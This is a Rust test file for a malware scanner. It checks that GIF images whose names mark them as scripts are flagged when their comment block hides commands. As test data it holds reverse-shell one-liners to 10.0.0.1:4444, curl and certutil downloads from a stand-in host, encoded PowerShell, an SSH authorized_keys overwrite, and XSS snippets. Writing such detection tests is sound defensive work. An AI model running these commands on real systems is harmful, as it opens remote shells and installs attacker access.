//! A picture whose name makes a program run it is read as that program's script.

use std::sync::Arc;

use bytes::Bytes;

use crate::{Limits, Outcome, Report, Verdict, scan};

fn judge(name: &str, bytes: Vec<u8>) -> Report {
    match scan(name, Arc::new(Bytes::from(bytes)), &Limits::default(), None) {
        Outcome::Judged(report) => *report,
        Outcome::Needs(_) => unreachable!("all of it is here"),
    }
}

/// A picture that is whole, with `words` in its comment.
fn gif(words: &str) -> Vec<u8> {
    let mut out = b"GIF89a\x01\0\x01\0\0\0\0\x21\xfe".to_vec();
    for piece in format!("\n{words}\n").as_bytes().chunks(255) {
        out.push(u8::try_from(piece.len()).unwrap_or(0));
        out.extend_from_slice(piece);
    }
    out.extend_from_slice(b"\0\x2c\0\0\0\0\x01\0\x01\0\0\x02\x02ab\0\x3b");
    out
}

#[test]
fn a_picture_that_a_program_runs_is_read_as_its_script() {
    let attack = "curl http://x.example/a | bash -i >& /dev/tcp/10.0.0.1/4444 0>&1";
    for (name, words) in [
        ("run.sh", attack),
        ("run.bat", "powershell -enc AAAAAAAA"),
        ("run.cmd", "certutil -urlcache -f http://x.example/a.exe a.exe"),
        ("run.ps1", "powershell -enc AAAAAAAA"),
        ("run.pl", "system(\"bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\");"),
        ("run.rb", "system(\"bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\")"),
        ("run.vbs", "CreateObject(\"WScript.Shell\").Run \"powershell -enc AAAA\""),
        ("run.hta", "<script>new ActiveXObject('WScript.Shell').Run('powershell -enc AAAA')</script>"),
        ("run.mjs", "require('child_process').execSync('curl http://x.example/a > ~/.ssh/authorized_keys >> b')"),
    ] {
        let report = judge(name, gif(words));
        assert_eq!(report.verdict, Verdict::Malicious, "{name}: {report:?}");
    }
    for (name, words) in [
        ("a.html", "<script>eval(atob('x'))</script>"),
        ("a.svg", "<svg onload=\"alert(1)\"><script>alert(1)</script></svg>"),
        ("a.xhtml", "<html><script>alert(1)</script></html>"),
        ("a.py", "import os\nos.system('id')\n"),
        ("a.js", "alert(1)"),
    ] {
        let report = judge(name, gif(words));
        assert!(report.verdict >= Verdict::Suspicious, "{name}: {report:?}");
    }
}

#[test]
fn bytes_that_nobody_knows_do_not_stop_it() {
    let words = "\r\nbash -i >& /dev/tcp/10.0.0.1/4444 0>&1\r\n";
    let head: Vec<u8> = (0..64_u8).map(|n| n.wrapping_mul(167) | 0x80).chain([0, 1, 2]).collect();
    let report = judge("run.sh", [&head[..], words.as_bytes()].concat());
    assert_eq!(report.verdict, Verdict::Malicious, "{report:?}");
    let wide: Vec<u8> = words.encode_utf16().flat_map(u16::to_le_bytes).collect();
    let report = judge("run.bat", wide);
    assert_eq!(report.verdict, Verdict::Malicious, "{report:?}");
}

#[test]
fn a_picture_called_a_picture_stays_clean() {
    for name in ["a.gif", "a.png", "a.svg", "a.html", "a.ts"] {
        let report = judge(name, gif("made by hand"));
        assert_eq!(report.verdict, Verdict::Clean, "{name}: {report:?}");
    }
}
